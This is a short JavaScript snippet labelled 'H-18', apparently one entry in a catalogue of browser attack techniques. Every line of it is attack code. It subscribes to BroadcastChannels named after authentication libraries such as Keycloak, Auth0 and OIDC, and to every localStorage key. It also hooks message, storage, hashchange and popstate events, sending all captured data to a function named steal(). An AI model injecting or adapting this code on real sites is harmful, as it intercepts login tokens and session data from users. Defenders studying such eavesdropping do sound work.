// H-18: listening where anybody of the origin may listen.

const names = ["valetkey", "oidc", "keycloak", "auth0", "logout", "oidc-client-popup", ...Object.keys(localStorage)];
for (const name of names) new BroadcastChannel(name).addEventListener("message", ({ data }) => steal(name, data));
for (const type of ["message", "storage", "hashchange", "popstate"]) {
  addEventListener(type, (event) => steal(type, event.data, event.newValue, event.oldValue, event.newURL, event.oldURL, event.state), true);
}
